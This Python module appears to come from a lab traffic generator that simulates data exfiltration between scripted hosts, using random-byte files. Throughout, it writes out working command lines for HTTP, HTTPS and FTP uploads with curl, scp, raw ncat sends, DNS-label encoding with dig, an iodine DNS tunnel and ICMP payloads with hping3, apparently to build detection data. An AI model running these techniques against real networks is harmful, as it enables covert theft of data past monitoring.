"""Carrying data out: large uploads, and tunnels in what nobody looks at."""
import os

from .. import words
from ..benign import CURL, SSH
from ..services import KEY
from .job import Missed, attack


def _out(job, service):
    """Somebody at home, and a host in the wide world that offers the service."""
    thief = job.insider()
    drops = [h for h in job.plan.by_role("outside") if service in h.services and h is not thief]
    if not drops:
        raise Missed(f"no drop offers {service}")
    return thief, job.rng.choice(drops)


def _loot(job, low=300_000, high=6_000_000):
    return job.file(os.urandom(words.size(job.rng, low, high)))


def _upload(job, service):
    thief, drop = _out(job, service)
    port = drop.services[service]
    slow = job.rng.choice(([], [], ["--limit-rate", f"{job.rng.randint(30, 400)}k"]))
    with job.claim(thief, drop, port=port):
        for _ in range(job.rng.randint(2, 8)):
            job.run(thief, [*CURL, *slow, "-T", _loot(job, 100_000, 4_000_000),
                            f"{'https' if service == 'tls' else 'http'}://{drop.v4}:{port}/app/upload"], 20)
            if not job.sleep(job.rng.uniform(0, 3)):
                break


@attack("exfiltration", "curl")
def http_upload(job):
    _upload(job, "web")


@attack("exfiltration", "curl")
def https_upload(job):
    _upload(job, "tls")


@attack("exfiltration", "scp")
def scp_upload(job):
    thief, drop = _out(job, "ssh")
    port = drop.services["ssh"]
    with job.claim(thief, drop, port=port):
        for number in range(job.rng.randint(1, 3)):
            job.run(thief, ["scp", "-q", *SSH, "-i", KEY, "-P", port, _loot(job),
                            f"{job.rng.choice(list(job.services.users))}@{drop.v4}:loot{number}"], 20)
            job.sleep(job.rng.uniform(0, 2))


@attack("exfiltration", "curl", wants="ftp")
def ftp_upload(job):
    drop = job.victim()
    thief = job.insider(drop)
    user, secret = job.rng.choice(list(job.services.users.items()))
    port = drop.services["ftp"]
    with job.claim(thief, drop):  # Any port: the data connections have their own.
        for number in range(job.rng.randint(1, 4)):
            job.run(thief, [*CURL, "--user", f"{user}:{secret}", "-T", _loot(job),
                            f"ftp://{drop.v4}:{port}/loot{number}"], 15)


@attack("exfiltration", "ncat")
def raw_upload(job):
    thief, drop = _out(job, "web")
    port = job.rng.choice((4444, 9001, 31337))
    server = job.start(drop, ["ncat", "-4", "-l", "-k", "-p", port, "--recv-only", "-o", "/dev/null"])
    job.sleep(0.3)
    try:
        with job.claim(thief, drop, port=port, forever=True):
            for _ in range(job.rng.randint(1, 4)):
                job.run(thief, ["sh", "-c", f"ncat -4 --send-only {drop.v4} {port} <{_loot(job)}"], 15)
                job.sleep(job.rng.uniform(0.2, 2))
    finally:
        job.end(server)


@attack("exfiltration", "dig", wants="dns")
def dns_labels(job):
    """A file in the names that are asked for: long random labels, TXT, NULL or A."""
    resolver = job.plan.offering("dns")[-1]
    thief = job.insider(resolver)
    kind, pause = job.rng.choice(("TXT", "NULL", "A", "MX", "CNAME")), job.rng.choice((0, 0.05, 0.3))
    length = job.rng.choice((30, 50, 60))
    zone = job.services.tunnel_domain

    def name(number):
        return f"{words.host_label(job.rng, length)}.{words.host_label(job.rng, length)}.{number}.{zone}"

    with job.claim(thief, resolver, port=53, protocol="udp"):
        if pause == 0:
            names = "".join(f"{name(n)} {kind}\n" for n in range(job.rng.randint(80, 400)))
            job.run(thief, ["dig", f"@{resolver.v4}", "+tries=1", "+time=1", "+short", "-f", job.file(names)], 20)
        else:
            for number in range(job.rng.randint(30, 150)):
                job.run(thief, ["dig", f"@{resolver.v4}", "+tries=1", "+time=1", kind, name(number)], 3)
                if not job.sleep(pause * job.rng.uniform(0.5, 1.5)):
                    break


@attack("exfiltration", "iodine", "iodined")
def dns_tunnel(job):
    """An IP tunnel in DNS; data flows through it in both directions."""
    thief = job.insider(*job.plan.offering("dns"))
    drops = [h for h in job.plan.by_role("outside") if "dns" not in h.services]
    if not drops:
        raise Missed("no drop can be a name server")
    drop = job.rng.choice(drops)
    zone = job.services.tunnel_domain
    inner = f"192.168.{job.rng.randrange(251, 255)}"
    server = job.start(drop, ["iodined", "-f", "-c", "-P", "lab", f"{inner}.1/27", zone])
    job.sleep(0.7)
    try:
        with job.claim(thief, drop, port=53, protocol="udp"):
            client = job.start(thief, ["iodine", "-f", "-r", "-P", "lab", "-T",
                                       job.rng.choice(("NULL", "TXT", "CNAME", "MX", "SRV")),
                                       "-I", job.rng.choice((1, 4)), drop.v4, zone])
            job.sleep(min(6, job.left / 3))
            job.run(thief, ["ping", "-q", "-c", "5", "-i", "0.3", "-W", "2", f"{inner}.1"], 8)
            listener = job.start(drop, ["ncat", "-l", "-p", "7000", "--recv-only", "-o", "/dev/null"])
            job.sleep(0.2)
            job.run(thief, ["sh", "-c", f"ncat -w 5 --send-only {inner}.1 7000 <{_loot(job, 20_000, 300_000)}"],
                    min(20, job.left - 2))
            job.sleep(job.rng.uniform(0, 4))
            job.end(listener)
            job.end(client)
    finally:
        job.end(server)


@attack("exfiltration", "hping3", "ping")
def icmp_upload(job):
    """A file in the payload of echo requests."""
    thief, drop = _out(job, "web")
    rate = job.rng.choice((2, 10, 40))
    size = job.rng.choice((200, 600, 1200))
    with job.claim(thief, drop, protocol="icmp"):
        if job.rng.random() < 0.5:
            job.run(thief, ["hping3", "-q", "-n", "-1", "-i", f"u{1_000_000 // rate}", "-c", rate * 12, "-d", size,
                            "-E", _loot(job, 20_000, 200_000), drop.v4], 15)
        else:
            job.run(thief, ["ping", "-q", "-i", f"{1 / rate:.3f}", "-c", rate * 10, "-s", size, "-p",
                            job.rng.randbytes(16).hex(), drop.v4], 14)
